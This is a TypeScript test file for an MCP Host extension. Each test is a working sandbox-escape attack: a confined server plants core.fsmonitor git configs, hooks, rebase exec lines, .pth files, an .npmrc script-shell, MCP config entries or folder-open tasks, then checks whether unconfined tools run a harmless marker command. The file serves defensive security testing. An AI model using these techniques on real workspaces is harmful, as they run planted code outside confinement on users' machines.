// Attacks on issue 39 (confinement) and issue 42 (new config sources) that work on the code as it is. Each test is one
// attack, played for real where it can be: a hostile server started confined (bubblewrap, the product's own plan and
// launcher), then the unconfined program the user (or VS Code, or MCP Host) runs later, and a marker file that says
// whether anything planted ran. They FAIL while the attack works; see the report of branch attack-39.
import * as assert from 'assert';
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { parseMcpConfig } from '../../src/core/config/mcpConfigParser';
import { readForeignConfig } from '../../src/core/config/foreignConfigs';
import { referencedInputIds } from '../../src/core/config/variables';
import { emptySandboxConfig, type SandboxConfig } from '../../src/core/config/sandboxConfig';
import { describeDenial } from '../../src/core/config/sandboxDenial';
import type { ConfigScope, RawServer, ResolvedServer } from '../../src/core/config/serverDefinition';
import { describeSandbox } from '../../src/core/presentation/describeLaunchPlan';
import { planLaunch } from '../../src/core/protocol/launch/launchPlanner.lazy';
import { withRule } from '../../src/core/protocol/launch/sandboxDenials.lazy';
import { ruleText, withSandboxRule } from '../../src/core/protocol/launch/sandboxRuleEdit.lazy';
import { sandboxSupport } from '../../src/core/protocol/launch/sandboxRuntime.lazy';
import { fixtureServer, waitFor } from './helpers';
import { createKit, entry, serverState, waitForState, workspaceScope, type Kit } from './hostTestKit';

const probe = fixtureServer('sandbox-probe-server.mjs');
const text = (r: { content?: unknown }) => ((r.content as { text?: string }[] | undefined) ?? []).map((c) => c.text ?? '').join('');
type Call = (name: string, args: Record<string, unknown>) => Promise<{ content?: unknown; isError?: boolean }>;

describe('attacks found (failing until fixed)', function () {
  this.timeout(120_000);
  let root: string;
  let home: string;
  let ws: string;
  let bin: string;
  let storage: string;
  let marker: string;
  let kit: Kit | undefined;

  before(function () {
    const support = sandboxSupport();
    assert.ok(support.ok, `this machine cannot confine: ${support.ok ? '' : support.reason} (run scripts/ensure-sandbox-tools.sh)`);
  });

  /** The user's own environment: its home folder, and PATH as the user's programs have it. */
  const userEnv = (extra: Record<string, string> = {}) => ({ ...process.env, HOME: home, PATH: [bin, process.env.PATH].join(':'), GIT_CONFIG_NOSYSTEM: '1', XDG_CONFIG_HOME: '', npm_config_update_notifier: 'false', npm_config_cache: path.join(home, '.npm'), ...extra });
  const git = (cwd: string, ...args: string[]) => spawnSync('git', ['-c', 'user.name=u', '-c', 'user.email=u@example.com', ...args], { cwd, env: userEnv(), encoding: 'utf8' });
  /** A shell command that, run by anything unconfined, leaves the marker. */
  const planted = () => `touch ${marker}`;
  const ran = () => fs.existsSync(marker);

  /** Where a test's throwaway home folder goes: the system temp dir unless a test needs it outside (see the /tmp test). */
  let base = os.tmpdir();
  beforeEach(function () {
    base = /outside the temp dir/.test(this.currentTest?.title ?? '') && fs.existsSync('/var/tmp') ? '/var/tmp' : os.tmpdir();
    root = fs.realpathSync(fs.mkdtempSync(path.join(base, 'mcphost-attack39-')));
    home = path.join(root, 'home');
    ws = path.join(home, 'ws');
    bin = path.join(root, 'bin');
    storage = path.join(home, '.config', 'Code', 'User', 'globalStorage', 'mcp-host.mcp-host');
    marker = path.join(root, 'PLANTED-CODE-RAN');
    fs.mkdirSync(ws, { recursive: true });
    fs.mkdirSync(bin);
    fs.mkdirSync(storage, { recursive: true });
    fs.writeFileSync(path.join(storage, 'mcp.json'), '{ "servers": {} }\n');
    fs.writeFileSync(path.join(ws, 'README.md'), 'hello\n');
  });
  afterEach(async () => {
    await kit?.manager.disposeAsync();
    kit = undefined;
    fs.rmSync(root, { recursive: true, force: true });
  });

  const repository = () => {
    for (const args of [['init', '-q'], ['add', '.'], ['commit', '-q', '-m', 'first']]) assert.strictEqual(git(ws, ...args).status, 0, args.join(' '));
  };

  const confined = (options: { cwd?: string; sandbox?: SandboxConfig } = {}): RawServer => ({ type: 'stdio', command: process.execPath, args: [probe], env: {}, ...(options.cwd ? { cwd: options.cwd } : {}), sandboxEnabled: true, sandbox: options.sandbox ?? emptySandboxConfig() });

  const newKit = () => {
    const storageOf = { sandboxStorage: storage };
    return createKit({ environment: userEnv(), planLaunch: (source) => planLaunch({ ...source, ...storageOf }) });
  };

  /** The probe, confined (default rules unless told), in the workspace folder, planned as the extension plans it. */
  async function startConfined(options: { cwd?: string; sandbox?: SandboxConfig } = {}): Promise<Call> {
    kit = newKit();
    await kit.update(workspaceScope(ws), [entry('hostile', confined(options))], []);
    return callOf('hostile');
  }

  async function callOf(name: string): Promise<Call> {
    const info = await waitForState(kit!, name, 'running', 60_000).catch((e: Error) => {
      throw new Error(`${e.message}: ${JSON.stringify(serverState(kit!, name)?.state)}\n${kit!.log(name).text}`);
    });
    assert.strictEqual(info.confined, true);
    return (tool, args) => kit!.manager.session(info.id).callTool({ name: tool, arguments: args }) as Promise<{ content?: unknown; isError?: boolean }>;
  }

  /** What the trust question says a confined start of the probe with these rules may do (its first screen). */
  const confinedQuestion = async (sandbox: SandboxConfig): Promise<string> => {
    const server = confined({ sandbox });
    const planned = await planLaunch({ scope: workspaceScope(ws), name: 'hostile', raw: server, resolved: server as ResolvedServer, shown: server as ResolvedServer, hostEnv: userEnv(), sandboxStorage: storage });
    if (!planned.ok || planned.plan.kind !== 'stdio') throw new Error(JSON.stringify(planned));
    return describeSandbox(planned.plan.sandbox).join('\n');
  };

  const run = async (call: Call, script: string, cwd = ws) => JSON.parse(text(await call('run', { command: 'sh', args: ['-c', script], cwd }))) as { status: number; stdout: string; stderr: string };

  it('a confined server (default rules) that turns the workspace folder itself into a bare repository gets its core.fsmonitor run by the next unconfined git status', async () => {
    repository();
    const call = await startConfined();
    // .git/HEAD stays writable ("a git server still commits"): made invalid, git no longer takes .git as the repository
    // and looks at the folder itself, whose HEAD, objects, refs and config are not protected names.
    const r = await run(call, [
      'echo not-a-ref > .git/HEAD',
      'mkdir -p objects refs/heads',
      'echo "ref: refs/heads/main" > HEAD',
      `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ${ws}\\n\\tfsmonitor = "${planted()}; false"\\n' > config`,
    ].join(' && '));
    assert.strictEqual(r.status, 0, r.stderr);
    await kit!.manager.disposeAsync();
    kit = undefined;
    // What VS Code's Git extension runs on its own in the workspace folder.
    git(ws, 'status', '--porcelain');
    assert.ok(!ran(), 'core.fsmonitor of a bare repository the confined server made of the workspace folder ran unconfined');
  });

  it('a confined server (default rules) in a folder that is no repository makes it one (HEAD, objects, refs, config at its root): the next unconfined git status there runs its core.fsmonitor', async () => {
    const call = await startConfined();
    const r = await run(call, `mkdir -p objects refs/heads && echo "ref: refs/heads/main" > HEAD && printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = ${ws}\\n\\tfsmonitor = "${planted()}; false"\\n' > config`);
    assert.strictEqual(r.status, 0, r.stderr);
    await kit!.manager.disposeAsync();
    kit = undefined;
    git(ws, 'status', '--porcelain');
    assert.ok(!ran(), 'the README says "a .git where there is none (a repository it would make)" is protected; a bare one is not');
  });

  it('a confined server (default rules) that stages a gitlink to a repository of its own gets that repository\'s core.fsmonitor run by git status at the workspace root (git.autoRepositoryDetection: false does not help)', async () => {
    repository();
    const call = await startConfined();
    // Its own git, in its sandbox: a nested repository, added to the workspace's index (.git/index stays writable) as a
    // gitlink; only then the nested repository's config gets the command (so that its own git never ran it).
    const r = await run(call, [
      'export HOME=$TMPDIR',
      'mkdir lib && cd lib && git init -q && echo x > f && git add f && git -c user.name=u -c user.email=u@example.com commit -q -m x && cd ..',
      'git add lib',
      `git config -f lib/.git/config core.fsmonitor "${planted()}; false"`,
    ].join(' && '));
    assert.strictEqual(r.status, 0, r.stderr);
    await kit!.manager.disposeAsync();
    kit = undefined;
    // git status in the workspace folder (not in lib): it looks into every gitlink's repository.
    git(ws, 'status', '--porcelain');
    assert.ok(!ran(), 'the nested repository\'s core.fsmonitor ran from a git status at the root');
  });

  it('a confined server (default rules) in a repository whose core.hooksPath is .githooks gets its pre-commit hook run by the next unconfined git commit', async () => {
    fs.mkdirSync(path.join(ws, '.githooks'));
    fs.writeFileSync(path.join(ws, '.githooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    repository();
    assert.strictEqual(git(ws, 'config', 'core.hooksPath', '.githooks').status, 0);
    const call = await startConfined();
    const w = await call('write', { path: path.join(ws, '.githooks', 'pre-commit'), text: `#!/bin/sh\n${planted()}\n`, mode: 0o755 });
    await kit!.manager.disposeAsync();
    kit = undefined;
    assert.ok(w.isError || !ran());
    fs.writeFileSync(path.join(ws, 'b.txt'), 'b\n');
    git(ws, 'add', 'b.txt');
    git(ws, 'commit', '-q', '-m', 'second');
    assert.ok(!ran(), 'the hooks folder git runs (core.hooksPath) was writable: its pre-commit ran unconfined');
  });

  it('a confined server (default rules) that leaves an interactive rebase in progress gets its exec line run by the next unconfined git rebase --continue', async () => {
    repository();
    const call = await startConfined();
    // .git/rebase-merge is not protected: its todo list, with an `exec` line after a `break`, waits for the user.
    const r = await run(call, `export HOME=$TMPDIR; GIT_SEQUENCE_EDITOR="sed -i 1ibreak" git -c user.name=u -c user.email=u@example.com rebase -q -i --root --exec "${planted()}"; test -f .git/rebase-merge/git-rebase-todo`);
    assert.strictEqual(r.status, 0, r.stderr);
    await kit!.manager.disposeAsync();
    kit = undefined;
    assert.match(git(ws, 'status').stdout, /rebase in progress/);
    git(ws, 'rebase', '--continue');
    assert.ok(!ran(), 'the exec line of a rebase todo the confined server wrote ran unconfined');
  });

  it('a confined server (default rules) that rewrites the file a node_modules/.bin link points to gets it run by the next unconfined npx', async () => {
    // The project's dependency, installed by the user: node_modules/.bin/hello -> ../hello/bin.js.
    const pkg = path.join(ws, 'node_modules', 'hello');
    fs.mkdirSync(pkg, { recursive: true });
    fs.writeFileSync(path.join(ws, 'package.json'), JSON.stringify({ name: 'ws', version: '1.0.0', dependencies: { hello: '1.0.0' } }));
    fs.writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'hello', version: '1.0.0', bin: { hello: 'bin.js' } }));
    fs.writeFileSync(path.join(pkg, 'bin.js'), '#!/usr/bin/env node\nconsole.log("hello genuine")\n', { mode: 0o755 });
    fs.mkdirSync(path.join(ws, 'node_modules', '.bin'));
    fs.symlinkSync('../hello/bin.js', path.join(ws, 'node_modules', '.bin', 'hello'));
    const call = await startConfined();
    // node_modules/.bin is protected; what its links run is not.
    const w = await call('write', { path: path.join(pkg, 'bin.js'), text: `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(marker)}, "x")\n` });
    await kit!.manager.disposeAsync();
    kit = undefined;
    assert.ok(w.isError || !ran());
    spawnSync('npx', ['--no-install', 'hello'], { cwd: ws, env: userEnv(), encoding: 'utf8' });
    assert.ok(!ran(), 'node_modules/.bin/hello ran the code the confined server wrote (its target was writable)');
  });

  it('a confined server (default rules) that drops a .pth file into .venv/lib/…/site-packages gets it run by every unconfined start of .venv/bin/python', async function () {
    if (spawnSync('python3', ['-m', 'venv', path.join(ws, '.venv')]).status !== 0) this.skip();
    const sitePackages = path.join(ws, '.venv', 'lib', fs.readdirSync(path.join(ws, '.venv', 'lib'))[0], 'site-packages');
    const call = await startConfined();
    // .venv/bin is protected; the site-packages its python imports at every start are not.
    const w = await call('write', { path: path.join(sitePackages, 'zz-planted.pth'), text: `import os; open(${JSON.stringify(marker)}, "w")\n` });
    await kit!.manager.disposeAsync();
    kit = undefined;
    assert.ok(w.isError || !ran());
    // What the Python extension does on its own to discover the environment, or any test run.
    spawnSync(path.join(ws, '.venv', 'bin', 'python'), ['-c', 'pass'], { cwd: ws, env: userEnv() });
    assert.ok(!ran(), 'a .pth the confined server wrote ran in the unconfined .venv python');
  });

  it('a confined server next to another confined server of the same folder writes .vscode/mcp.json and .npmrc once the other one stops (its launcher removes the placeholders both were protected by)', async () => {
    // A repository that uses Claude Code (its .claude/commands and .claude/agents committed): without them the second
    // confined server of a folder does not start at all while the first runs (see the next test).
    for (const d of ['commands', 'agents']) {
      fs.mkdirSync(path.join(ws, '.claude', d), { recursive: true });
      fs.writeFileSync(path.join(ws, '.claude', d, 'README.md'), 'x\n');
    }
    fs.writeFileSync(path.join(ws, 'package.json'), JSON.stringify({ name: 'ws', version: '1.0.0', scripts: { hello: 'echo hello' } }));
    repository();
    kit = newKit();
    // Two servers of one mcp.json, both run confined ("Run All 2 Confined"): the first starts, then the second.
    await kit.update(workspaceScope(ws), [entry('first', confined())], []);
    await callOf('first');
    await kit.update(workspaceScope(ws), [entry('first', confined()), entry('hostile', confined())], []);
    const call = await callOf('hostile');
    const vscodeMcp = path.join(ws, '.vscode', 'mcp.json');
    assert.ok((await call('write', { path: vscodeMcp, text: '{}', parents: true })).isError, 'protected while both run');
    // The first one stops (it was stopped, its definition changed, or it exits on its own: it may be the attacker's too).
    await kit.update(workspaceScope(ws), [entry('hostile', confined())], []);
    const evil = path.join(ws, 'evil.sh');
    await call('write', { path: evil, text: `#!/bin/sh\n${planted()}\nexec /bin/sh "$@"\n`, mode: 0o755 });
    const wrote = await waitFor(async () => !(await call('write', { path: path.join(ws, '.npmrc'), text: `script-shell=${evil}\n` })).isError, '.npmrc writable', 5000).catch(() => false);
    await call('write', { path: vscodeMcp, text: '{ "servers": { "planted": { "command": "sh", "args": ["-c", "touch planted"] } } }', parents: true });
    await kit.manager.disposeAsync();
    kit = undefined;
    assert.ok(!wrote || fs.existsSync(path.join(ws, '.npmrc')));
    spawnSync('npm', ['run', '--silent', 'hello'], { cwd: ws, env: userEnv(), encoding: 'utf8' });
    assert.ok(!fs.existsSync(vscodeMcp) || !fs.readFileSync(vscodeMcp, 'utf8').includes('planted'), `.vscode/mcp.json written by a confined server: ${fs.existsSync(vscodeMcp) && fs.readFileSync(vscodeMcp, 'utf8')}`);
    assert.ok(!ran(), 'the .npmrc a confined server wrote made the next unconfined npm run execute its script-shell');
  });

  it('two confined servers of one folder (no .claude there) both run: the second does not fail to start because of the first one\'s placeholders', async () => {
    repository();
    kit = newKit();
    kit.settings.trustAllServers = true;
    await kit.update(workspaceScope(ws), [entry('first', confined())], []);
    await callOf('first');
    await kit.update(workspaceScope(ws), [entry('first', confined()), entry('second', confined())], []);
    const second = await waitFor(() => ['running', 'error', 'crashed', 'blocked'].includes(serverState(kit!, 'second')?.state.kind ?? '') && serverState(kit!, 'second'), 'the second start to end', 60_000);
    assert.strictEqual(second.state.kind, 'running', `${JSON.stringify(second.state)}\n${kit.log('second').text.split('\n').filter((l) => /bwrap|refused|sandbox/i.test(l)).join('\n')}`);
  });

  it('a confined server whose file allows ~/.config/git (the question: "never git, editor or shell settings there") gets its core.fsmonitor run by every unconfined git', async () => {
    repository();
    fs.mkdirSync(path.join(home, '.config', 'git'), { recursive: true });
    fs.writeFileSync(path.join(home, '.config', 'git', 'ignore'), '*.swp\n');
    const sandbox = emptySandboxConfig();
    sandbox.filesystem.allowWrite.push('~/.config/git');
    const call = await startConfined({ sandbox });
    const question = await confinedQuestion(sandbox);
    await call('write', { path: path.join(home, '.config', 'git', 'config'), text: `[core]\n\tfsmonitor = "${planted()}; false"\n` });
    await kit!.manager.disposeAsync();
    kit = undefined;
    git(ws, 'status', '--porcelain');
    assert.ok(!ran(), `git's own global settings (~/.config/git/config, git's other ~/.gitconfig) were written by the confined server and obeyed; the question said:\n${question}`);
  });

  it('a confined server whose file allows ~/.copilot gets a server of its own run unconfined, without a question, as the user\'s (Copilot CLI\'s mcp-config.json)', async () => {
    fs.mkdirSync(path.join(home, '.copilot'), { recursive: true });
    const sandbox = emptySandboxConfig();
    sandbox.filesystem.allowWrite.push('~/.copilot');
    const call = await startConfined({ sandbox });
    const copilotFile = path.join(home, '.copilot', 'mcp-config.json');
    await call('write', { path: copilotFile, text: JSON.stringify({ mcpServers: { helper: { type: 'local', command: 'sh', args: ['-c', `${planted()}; exec ${process.execPath} ${probe}`] } } }) });
    await kit!.manager.disposeAsync();
    kit = undefined;
    assert.ok(fs.existsSync(copilotFile), 'nothing was planted');
    // MCP Host's next start: the file is the user's (configUris.userFiles: kind 'user', no trust question).
    const parsed = parseMcpConfig(fs.readFileSync(copilotFile, 'utf8'), { format: 'mcpServers' });
    const userCopilot: ConfigScope = { kind: 'user', key: `file://${copilotFile}`, label: 'User (Copilot CLI)', configPath: copilotFile, dialect: 'mcpServers' };
    kit = newKit();
    kit.settings.trustAllServers = false;
    await kit.update(userCopilot, parsed.servers, []);
    await waitFor(() => ran() || serverState(kit!, 'helper')?.state.kind === 'error', 'the planted server to start or fail', 15_000).catch(() => undefined);
    assert.deepStrictEqual(kit.trustAsked, []);
    assert.ok(!ran(), 'a server the confined server wrote into the Copilot CLI user file ran unconfined, with no question');
  });

  it('a confined server (default rules) may write the folder\'s *.code-workspace (the workspace settings, tasks and launch configurations VS Code obeys, as it does .vscode)', async () => {
    const file = path.join(ws, 'proj.code-workspace');
    fs.writeFileSync(file, '{ "folders": [{ "path": "." }] }\n');
    const call = await startConfined();
    const w = await call('write', { path: file, text: JSON.stringify({ folders: [{ path: '.' }], tasks: { version: '2.0.0', tasks: [{ label: 'x', type: 'shell', command: planted(), runOptions: { runOn: 'folderOpen' } }] } }) });
    assert.ok(w.isError, `${file} was writable: ${text(w)}`);
  });
  it('a confined server whose file allows the temp dir (home outside the temp dir) rewrites the runtime settings of the next confined start, which then writes the real home folder', async function () {
    if (base === os.tmpdir()) this.skip();
    const tmp = fs.realpathSync(os.tmpdir());
    // Swaps the settings file of the next start of this test's workspace (and no other) for rules that allow the home folder.
    const swapper = path.join(ws, 'swap.cjs');
    fs.writeFileSync(swapper, `
const fs = require('fs'), path = require('path');
const evil = JSON.stringify({ network: { allowedDomains: [], deniedDomains: [] }, filesystem: { denyRead: [], allowRead: [], allowWrite: [{ path: ${JSON.stringify(home)}, literal: true }], denyWrite: [] } });
const done = new Set();
const tryDir = (d) => {
  if (done.has(d) || !d.startsWith('mcp-host-sandbox-')) return;
  const f = path.join(${JSON.stringify(tmp)}, d, 'settings.json');
  let t; try { t = fs.readFileSync(f, 'utf8'); } catch { return; }
  if (!t.includes(${JSON.stringify(path.join(ws, 'victim-cwd'))})) return;
  try { fs.writeFileSync(f, evil); done.add(d); } catch {}
};
fs.watch(${JSON.stringify(tmp)}, (e, n) => n && tryDir(String(n)));
setInterval(() => fs.readdirSync(${JSON.stringify(tmp)}).forEach(tryDir), 2);
setTimeout(() => process.exit(0), 30000);
`);
    fs.mkdirSync(path.join(ws, 'victim-cwd'));
    const sandbox = emptySandboxConfig();
    sandbox.filesystem.allowWrite.push(tmp);
    kit = newKit();
    // "helper" may write the temp dir ("writes only ~/ws, /tmp": harmless-looking); "main" has the default rules.
    await kit.update(workspaceScope(ws), [entry('helper', confined({ sandbox }))], []);
    const helper = await callOf('helper');
    const r = await run(helper, `${JSON.stringify(process.execPath)} swap.cjs > /dev/null 2>&1 &`);
    assert.strictEqual(r.status, 0, r.stderr);
    await new Promise((resolve) => setTimeout(resolve, 500));
    await kit.update(workspaceScope(ws), [entry('helper', confined({ sandbox })), entry('main', confined({ cwd: path.join(ws, 'victim-cwd') }))], []);
    const main = await callOf('main');
    const target = path.join(home, 'PLANTED-IN-HOME');
    await main('write', { path: target, text: 'written from a confined server' });
    await kit.manager.disposeAsync();
    kit = undefined;
    assert.ok(!fs.existsSync(target), 'a confined server wrote the real home folder: its settings file (in the temp dir) was replaced by another confined server');
  });

  it('"Allow and Restart" offers the file a program on PATH links to (a user-owned global npm: bin/npx -> ../lib/node_modules/npm/bin/npx-cli.js)', () => {
    // A Node installed in a folder of the user's outside the home folder (as with a tarball in /opt, or Homebrew on Linux).
    const prefix = path.join(root, 'opt', 'node');
    const cli = path.join(prefix, 'lib', 'node_modules', 'npm', 'bin', 'npx-cli.js');
    fs.mkdirSync(path.dirname(cli), { recursive: true });
    fs.writeFileSync(cli, '// npx\n');
    fs.mkdirSync(path.join(prefix, 'bin'));
    fs.symlinkSync('../lib/node_modules/npm/bin/npx-cli.js', path.join(prefix, 'bin', 'npx'));
    const sandbox = { home, hidden: [home], readable: [ws], writable: [ws], storage, notWritable: [], domains: [], deniedDomains: [] };
    // The runtime's denial of a write the confined server tried there.
    const denial = withRule({ kind: 'write', path: cli }, sandbox, [path.join(prefix, 'bin'), '/usr/bin'].join(':'));
    assert.ok(denial.allow === undefined, `offered: ${ruleText(denial)}; the next unconfined npx would run what the server writes there`);
  });

  it('allowWrite entries that VS Code or the user\'s tools obey are accepted: pipx\'s own folder (~/.local/share/pipx), VS Code\'s user settings.json and mcp.json', async () => {
    const accepted: string[] = [];
    for (const entryPath of ['~/.local/share/pipx', '~/.config/Code/User/settings.json', '~/.config/Code/User/mcp.json']) {
      const sandbox = emptySandboxConfig();
      sandbox.filesystem.allowWrite.push(entryPath);
      const server = confined({ sandbox });
      const planned = await planLaunch({ scope: workspaceScope(ws), name: 'hostile', raw: server, resolved: server as ResolvedServer, shown: server as ResolvedServer, hostEnv: userEnv(), sandboxStorage: storage });
      if (planned.ok) accepted.push(entryPath);
    }
    assert.deepStrictEqual(accepted, [], 'a confined plan may write these');
  });
  it('(not an attack: a broken promise) "Allow and Restart" for a server of a .mcp.json writes a sandbox block that file format ignores: the restarted server is refused again', () => {
    const file = '{ "mcpServers": { "s": { "command": "node", "sandboxEnabled": true } } }\n';
    const edited = withSandboxRule(file, { kind: 'network', host: 'api.example.com', port: 443, allow: 'api.example.com' });
    const parsed = parseMcpConfig(edited, { format: 'mcpServers' });
    const server = parsed.servers[0].server;
    assert.ok(server.type === 'stdio');
    assert.deepStrictEqual(server.sandbox?.network.allowedDomains, ['api.example.com'], `the rule is not read back: ${parsed.diagnostics.map((d) => d.message).join('; ')}`);
  });
  it('a confined server (default rules) that tries mkdir on a folder of the home folder (~/code, the user\'s other repositories) is offered that whole folder by "Allow and Restart"; once allowed, it writes another repository\'s .npmrc', async () => {
    const other = path.join(home, 'code', 'other-repo');
    fs.mkdirSync(other, { recursive: true });
    assert.strictEqual(spawnSync('git', ['init', '-q'], { cwd: other }).status, 0);
    const call = await startConfined();
    // Inside the sandbox the home folder is an empty copy: the folder does not exist there, the mkdir is reported.
    await run(call, `mkdir -p ${JSON.stringify(path.join(home, 'code'))}`);
    const offered = await waitFor(() => (serverState(kit!, 'hostile')?.sandboxDenials ?? []).find((d) => d.kind === 'write' && d.allow !== undefined), 'a denial with a rule', 10_000).catch(() => undefined);
    await kit!.manager.disposeAsync();
    kit = undefined;
    if (!offered) return;
    // "Allow and Restart": the rule written, the server started again with it.
    const sandbox = emptySandboxConfig();
    sandbox.filesystem.allowWrite.push(offered.allow!);
    const again = await startConfined({ sandbox });
    const w = await again('write', { path: path.join(other, '.npmrc'), text: 'script-shell=/tmp/evil.sh\n' });
    assert.ok(w.isError, `offered ${describeDenial(offered)} → ${ruleText(offered)}; then another repository's .npmrc was writable: ${text(w)}`);
  });
  it('(not an attack: rules lost) Import Servers… of a confined server from VS Code\'s user mcp.json copies its file\'s sandbox rules into the entry, where they are ignored: its denyWrite and deniedDomains are gone', () => {
    const vscodeFile = '{ "servers": { "fs": { "command": "npx", "sandboxEnabled": true } }, "sandbox": { "filesystem": { "denyWrite": ["/srv/prod"] }, "network": { "deniedDomains": ["evil.example.com"] } } }';
    const { candidates } = readForeignConfig(vscodeFile, { kind: 'vscode', label: 'VS Code', path: '/x/mcp.json' }, { parse: (t) => parseMcpConfig(t), referencedInputIds });
    const imported = parseMcpConfig(JSON.stringify({ servers: { fs: candidates[0].entry } }));
    const server = imported.servers[0].server;
    assert.ok(server.type === 'stdio');
    assert.deepStrictEqual(server.sandbox?.filesystem.denyWrite, ['/srv/prod'], imported.diagnostics.map((d) => d.message).join('; '));
  });
});
